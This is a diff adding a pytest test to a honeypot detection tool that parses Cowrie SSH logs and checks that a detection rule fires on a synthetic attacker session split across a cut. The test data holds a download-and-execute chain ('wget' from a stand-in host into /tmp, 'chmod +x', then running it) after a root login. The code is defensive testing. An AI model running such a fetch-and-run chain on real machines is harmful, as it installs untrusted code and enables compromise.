@@ -17,6 +17,8 @@ from decnet_ttp.core.source_kinds import SourceKind
 from decnet_ttp.matching import RulePack
 from decnet_ttp.rule_store.loader import load_pack
 from decnet_ttp.rule_store.vocabulary import Vocabulary
+from decnet_ttp.sources.cowrie import CowrieSource
+from decnet_ttp.sources.cowrie_session import MAX_ITEMS
 from precision.corpora import ROOT
 
 IDS = frozenset(f"R{number:04}" for number in range(150, 160))
@@ -78,6 +80,30 @@ SESSIONS: dict[str, tuple[list[str], set[str]]] = {
 def test_a_session_fires_exactly_its_rules(pack: RulePack, name: str) -> None:
     commands, expected = SESSIONS[name]
     assert fired(pack, {"auth_attempts": LOGGED_IN, "commands": commands}) == expected
+
+
+def test_a_chain_across_the_cut_of_a_long_session_fires_once(
+    pack: RulePack, tmp_path: Path
+) -> None:
+    """The log-in stands at the begin, the transfer before the cut, and what was run behind it."""
+    lines = [f"echo {number}" for number in range(MAX_ITEMS - 3)]
+    lines += ["cd /tmp", "wget http://198.51.100.7/a", "chmod +x a", "./a", "exit"]
+    events: list[dict[str, Any]] = [
+        {"eventid": "cowrie.session.connect", "protocol": "ssh"},
+        {"eventid": "cowrie.login.success", "username": "root", "password": "x"},
+        *({"eventid": "cowrie.command.input", "input": each} for each in lines),
+        {"eventid": "cowrie.session.closed"},
+    ]
+    log = tmp_path / "cowrie.json"
+    with log.open("wb") as file:
+        for second, event in enumerate(events):
+            ts = f"2026-11-21T10:{second // 60:02}:{second % 60:02}.000000Z"
+            common = {"session": "a", "src_ip": "198.51.100.7", "sensor": "pot", "timestamp": ts}
+            file.write(orjson.dumps(common | event) + b"\n")
+    parts = [orjson.loads(message.payload) for message in CowrieSource().read([str(log)])]
+    assert [part["source_id"].partition("#")[2] for part in parts] == ["", "2"]
+    assert "./a" in [command["command_text"] for command in parts[1]["commands"]]
+    assert [fired(pack, part) for part in parts] == [set(), {"R0150"}]
 
 
 @pytest.mark.shared
